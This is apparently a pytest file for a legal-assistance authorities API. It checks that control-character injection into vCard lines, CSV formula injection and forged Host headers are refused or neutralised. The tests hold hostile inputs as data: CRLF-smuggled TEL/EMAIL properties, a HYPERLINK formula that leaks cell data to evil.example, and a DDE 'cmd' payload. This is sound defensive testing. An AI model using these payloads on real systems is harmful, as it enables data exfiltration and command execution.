"""Output-side injection: control characters in record fields, vCard lines, CSV formulas,
the Host header in links, and the vCard's validator per language (issue 11, items 6, 7,
14a, 14c)."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterator
from typing import Any

import pytest
import vobject
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.access.principal import Role
from app.access.service import create_key
from app.authorities.models import Authority
from app.authorities.schemas import RecordInvalid, validate_record
from app.authorities.transfer import CSV_COLUMNS, import_records, parse_records
from app.core.settings import get_settings
from app.reference.data import ReferenceData
from tests.conftest import TEST_ACTOR, make_record, store

INJECTED_WEBSITE = "https://x.example/a\r\nTEL:+15555550100\r\nEMAIL:attacker@evil.example"
LINE_BREAKERS = ["\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"]
OTHER_CONTROLS = ["\x00", "\x07", "\x1b", "\x7f", "\x9b"]


def _set(record: dict[str, Any], pointer: str, value: str) -> None:
    *path, last = [int(p) if p.isdigit() else p for p in pointer.strip("/").split("/")]
    target: Any = record
    for part in path:
        target = target[part]
    target[last] = value


def _record_with(pointer: str, value: str) -> dict[str, Any]:
    record = make_record()
    record["designations"][0]["scope"] = {"en": "Requests under article 18"}
    record["designations"][0]["notification"] = "C.N.123.2004"
    record["designations"][0]["requirements"]["notes"] = {"en": "Sworn translation"}
    _set(record, pointer, value)
    return record


def _pointers(data: Any, reference: ReferenceData) -> list[str]:
    with pytest.raises(RecordInvalid) as exc:
        validate_record(data, reference)
    return [e.pointer for e in exc.value.errors]


# One line each: a line break here would split a vCard property or a CSV row.
SINGLE_LINE_FIELDS = {
    "/name/en": "Department of{} Justice",
    "/parent/pt": "Ministério{} da Justiça",
    "/ref": "BRA{}DRCI",
    "/acronym": "DR{}CI",
    "/website": "https://drci.example.org/a{}b",
    "/phones/0/number": "+55 61 2025{}-3000",
    "/phones/0/label": "Switch{}board",
    "/emails/0/address": "mla{}@drci.example.org",
    "/emails/0/label": "MLA{} requests",
    "/address/lines/0": "Esplanada{} dos Ministérios",
    "/address/locality": "Bras{}ília",
    "/address/region": "D{}F",
    "/address/postal_code": "70064{}-900",
    "/designations/0/article": "18{}(13)",
    "/designations/0/notification": "C.N.123{}.2004",
    "/contacts/0/name": "Duty{} officer",
    "/contacts/0/title/en": "Coordi{}nator",
    "/contacts/0/phones/0/number": "+55 61 2025{}-3002",
    "/contacts/0/emails/0/address": "duty{}@drci.example.org",
}
MULTI_LINE_FIELDS = {
    "/notes/en": "Requests in Spanish{}are accepted.",
    "/designations/0/scope/en": "Requests{}under article 18",
    "/designations/0/urgent/notes/en": "Original to follow{}within 30 days.",
    "/designations/0/requirements/notes/en": "Sworn{}translation",
}


@pytest.mark.parametrize("control", LINE_BREAKERS + OTHER_CONTROLS,
                         ids=lambda c: c.encode("unicode_escape").decode())
@pytest.mark.parametrize("pointer", SINGLE_LINE_FIELDS)
def test_single_line_fields_refuse_line_breaks_and_control_characters(
        reference: ReferenceData, pointer: str, control: str) -> None:
    record = _record_with(pointer, SINGLE_LINE_FIELDS[pointer].format(control))
    assert _pointers(record, reference) == [pointer]


def test_the_website_of_the_report_is_refused_with_its_pointer(
        reference: ReferenceData) -> None:
    with pytest.raises(RecordInvalid) as exc:
        validate_record(make_record(website=INJECTED_WEBSITE), reference)
    [error] = exc.value.errors
    assert error.pointer == "/website" and "control character" in error.message


@pytest.mark.parametrize("pointer", MULTI_LINE_FIELDS)
def test_multi_line_fields_keep_line_feeds_but_refuse_other_controls(
        reference: ReferenceData, pointer: str) -> None:
    template = MULTI_LINE_FIELDS[pointer]
    for newline in ("\n", "\r\n", "\r"):  # a browser's textarea sends CRLF
        record = validate_record(_record_with(pointer, template.format(newline)), reference)
        assert _lookup(record.model_dump(mode="json"), pointer) == template.format("\n")
    for control in ["\x0b", "\x85", "\u2028", *OTHER_CONTROLS]:
        assert _pointers(_record_with(pointer, template.format(control)), reference) == \
            [pointer], repr(control)


def _lookup(document: Any, pointer: str) -> Any:
    for part in pointer.strip("/").split("/"):
        document = document[int(part) if part.isdigit() else part]
    return document


def test_tab_and_format_characters_are_kept(reference: ReferenceData) -> None:
    # Bidi marks and joiners are needed in Arabic, Hebrew, Persian or Indic names.
    name = "وزارة\u200c العدل \u200fJustice\u2067x\u2069"
    record = validate_record(make_record(name={"ar": name}, notes={"en": "a\tb"}), reference)
    assert record.name == {"ar": name} and record.notes == {"en": "a\tb"}


def test_import_reports_the_control_character_as_a_record_error(
        session: Session, reference: ReferenceData) -> None:
    import json

    good = make_record(ref="GOOD")
    bad = make_record(ref="BAD", website=INJECTED_WEBSITE)
    text = json.dumps(good) + "\n" + json.dumps(bad) + "\n"
    report = import_records(session, parse_records(text), reference, TEST_ACTOR)
    assert not report.written
    [error] = report.errors
    assert (error.line, error.ref) == (2, "BAD")
    assert [e.pointer for e in error.errors] == ["/website"]


def test_the_write_api_answers_422_with_the_pointer(client: TestClient,
                                                     session: Session) -> None:
    key, _ = create_key(session, Role.secretariat)
    session.commit()
    response = client.post("/v1/authorities", headers={"Authorization": f"Bearer {key}"},
                           json=make_record(website=INJECTED_WEBSITE,
                                            name={"en": "A\r\nEMAIL:x@evil.example"}))
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    pointers = {e["pointer"] for e in response.json()["errors"]}
    assert pointers == {"/website", "/name/en"}


# --------------------------------------------------------------------------- vCard


def _cards(text: str) -> list[Any]:
    return list(vobject.readComponents(text))


def _physical_lines_are_clean(text: str) -> None:
    assert text.endswith("\r\n")
    for line in text[:-2].split("\r\n"):
        assert line, "an empty line ends a vCard early"
        assert not any((ord(c) < 0x20 and c != "\t") or 0x7f <= ord(c) < 0xa0
                       or c in "\u2028\u2029" for c in line), repr(line)


def test_a_record_stored_with_injected_values_still_gives_only_its_own_lines(
        client: TestClient, session: Session, reference: ReferenceData) -> None:
    authority = store(session, reference, make_record(contacts=[])).authority
    # Written straight into the tables, as a record that bypassed validation would be.
    row = session.get(Authority, authority.id)
    assert row is not None
    row.website = INJECTED_WEBSITE
    row.name = {"en": "Ministry\r\nEMAIL:name@evil.example", "pt": "Ministério\x0bTEL:+1"}
    row.acronym = "X\nTEL:+15555550101"
    row.address = {"lines": ["Rua 1\r\nTEL:+15555550102"], "locality": "B\u2028EMAIL:a@b.c",
                   "region": "DF", "postal_code": "7\x85TEL:+15555550103"}
    row.notes = {"en": "note\r\nEMAIL:note@evil.example", "ru\r\nTEL:+1": "x"}
    row.time_zone = "America/Sao_Paulo\r\nTEL:+15555550104"
    row.emails[0].address = "mla@drci.example.org\r\nTEL:+15555550105"
    row.designations[0].languages = ["pt", "en\r\nEMAIL:lang@evil.example"]
    session.add(row)
    session.commit()

    response = client.get(f"/v1/authorities/{authority.id}.vcf")
    assert response.status_code == 200
    text = response.text
    _physical_lines_are_clean(text)
    [card] = _cards(text)
    assert {t.value for t in card.contents["tel"]} == {"tel:+556120253000"}
    emails = [e.value for e in card.contents["email"]]
    assert len(emails) == 1 and emails[0].startswith("mla@drci.example.org")
    assert len(card.contents["url"]) == 1
    assert card.url.value.startswith("https://x.example/a")
    assert "\r" not in card.url.value and "\n" not in card.url.value
    assert {n.value for n in card.contents["fn"]} >= {"Ministry\nEMAIL:name@evil.example"}
    unfolded = text.replace("\r\n ", "")
    properties = [line.split(":", 1)[0].split(";", 1)[0] for line in unfolded.split("\r\n")
                  if line]
    assert properties.count("TEL") == 1 and properties.count("EMAIL") == 1


def test_url_is_a_uri_without_backslash_escapes(client: TestClient, session: Session,
                                                reference: ReferenceData) -> None:
    website = "https://drci.example.org/a,b;c?q=1&r=é"
    authority = store(session, reference, make_record(website=website)).authority
    text = client.get(f"/v1/authorities/{authority.id}.vcf").text
    url_line = next(line for line in text.replace("\r\n ", "").split("\r\n")
                    if line.startswith("URL"))
    assert url_line == "URL:https://drci.example.org/a,b;c?q=1&r=%C3%A9"


# --------------------------------------------------------------------------- CSV

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "name_local": "+cmd|' /C calc'!A0",
    "acronym": "@SUM(1+1)",
    "ref": "-2+3",
}


def test_csv_export_neutralises_formulas(client: TestClient, session: Session,
                                         reference: ReferenceData) -> None:
    store(session, reference, make_record(
        ref=FORMULAS["ref"], acronym=FORMULAS["acronym"],
        name={"en": FORMULAS["name"], "pt": FORMULAS["name_local"]},
        website="https://drci.example.org/=x"))
    response = client.get("/v1/export", params={"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows and list(rows[0]) == CSV_COLUMNS
    for column, formula in FORMULAS.items():
        assert rows[0][column] == "'" + formula
    assert rows[0]["phones"] == "'+556120253000"  # still a readable phone number, as text
    assert rows[0]["website"] == "https://drci.example.org/=x"
    for row in rows:
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r\n", (column, cell)


# --------------------------------------------------------------------------- Host header


@pytest.fixture
def settings_env() -> Iterator[dict[str, str]]:
    """Environment variables for the settings of a client created after this fixture."""
    changed: dict[str, str] = {}
    yield changed
    for name in changed:
        os.environ.pop(name, None)
    get_settings.cache_clear()


def _client_with(settings_env: dict[str, str], **variables: str) -> TestClient:
    from app.main import create_app

    for name, value in variables.items():
        os.environ[name] = settings_env[name] = value
    get_settings.cache_clear()
    return TestClient(create_app(), raise_server_exceptions=False)


def _two_records(session: Session, reference: ReferenceData) -> str:
    first = store(session, reference, make_record(ref="ONE")).authority
    store(session, reference, make_record(ref="TWO"))
    return str(first.id)


def _source(text: str) -> str:
    [card] = _cards(text)
    return str(card.source.value)


def test_a_foreign_host_header_is_never_echoed(db_url: str, session: Session,
                                              reference: ReferenceData,
                                              settings_env: dict[str, str]) -> None:
    first = _two_records(session, reference)
    evil = {"Host": "evil.example"}
    with _client_with(settings_env) as client:
        page = client.get("/v1/authorities", params={"limit": 1}, headers=evil)
        search = client.get("/v1/search", params={"limit": 1}, headers=evil)
        card = client.get(f"/v1/authorities/{first}.vcf", headers=evil)
    for response in (page, search, card):
        assert response.status_code == 200, response.text
    for link in (page.headers["link"], search.headers["link"]):
        assert "evil.example" not in link
        assert link.startswith("</v1/") and link.endswith('>; rel="next"')
    assert "evil.example" not in card.text
    assert "SOURCE" not in card.text  # no trustworthy absolute URL to give


def test_links_use_the_public_url_when_it_is_set(db_url: str, session: Session,
                                                reference: ReferenceData,
                                                settings_env: dict[str, str]) -> None:
    first = _two_records(session, reference)
    evil = {"Host": "evil.example"}
    with _client_with(settings_env, CNA_PUBLIC_URL="https://cna.example.org/") as client:
        page = client.get("/v1/authorities", params={"limit": 1}, headers=evil)
        card = client.get(f"/v1/authorities/{first}", headers={**evil,
                                                                "Accept": "text/vcard"})
        followed = client.get(page.headers["link"][1:page.headers["link"].index(">")])
    assert page.headers["link"].startswith("<https://cna.example.org/v1/authorities?")
    assert "limit=1" in page.headers["link"] and "cursor=" in page.headers["link"]
    assert _source(card.text) == f"https://cna.example.org/v1/authorities/{first}.vcf"
    assert followed.status_code == 200 and len(followed.json()["items"]) == 1


def test_an_allowed_host_gives_absolute_links(db_url: str, session: Session,
                                              reference: ReferenceData,
                                              settings_env: dict[str, str]) -> None:
    first = _two_records(session, reference)
    with _client_with(settings_env) as client:
        local = {"Host": "localhost:8000"}
        page = client.get("/v1/authorities", params={"limit": 1}, headers=local)
        card = client.get(f"/v1/authorities/{first}.vcf", headers=local)
        tricky = client.get("/v1/authorities", params={"limit": 1},
                            headers={"Host": "localhost@evil.example"})
    assert page.headers["link"].startswith("<http://localhost:8000/v1/authorities?")
    assert _source(card.text) == f"http://localhost:8000/v1/authorities/{first}.vcf"
    assert tricky.headers["link"].startswith("</v1/authorities?")
    with _client_with(settings_env, CNA_ALLOWED_HOSTS='["cna.internal"]') as client:
        page = client.get("/v1/authorities", params={"limit": 1},
                          headers={"Host": "CNA.internal"})
        refused = client.get("/v1/authorities", params={"limit": 1},
                             headers={"Host": "localhost"})
    assert page.headers["link"].startswith("<http://cna.internal/v1/authorities?")
    assert refused.headers["link"].startswith("</v1/authorities?")


# --------------------------------------------------------------------------- vCard ETag


def test_the_vcard_validator_varies_with_the_language(client: TestClient, session: Session,
                                                      reference: ReferenceData) -> None:
    authority = store(session, reference, make_record()).authority
    url = f"/v1/authorities/{authority.id}.vcf"
    english = client.get(url, headers={"Accept-Language": "en"})
    portuguese = client.get(url, headers={"Accept-Language": "pt-BR"})
    assert english.text != portuguese.text
    assert english.headers["etag"] != portuguese.headers["etag"]
    for response in (english, portuguese):
        assert "Accept-Language" in [v.strip() for v in response.headers["vary"].split(",")]
    same = client.get(url, headers={"Accept-Language": "pt-BR",
                                    "If-None-Match": portuguese.headers["etag"]})
    assert same.status_code == 304 and same.headers["etag"] == portuguese.headers["etag"]
    other = client.get(url, headers={"Accept-Language": "en",
                                     "If-None-Match": portuguese.headers["etag"]})
    assert other.status_code == 200 and other.text == english.text
    by_query = client.get(url, params={"lang": "pt"},
                          headers={"If-None-Match": english.headers["etag"]})
    assert by_query.status_code == 200
    assert by_query.headers["etag"] != english.headers["etag"]
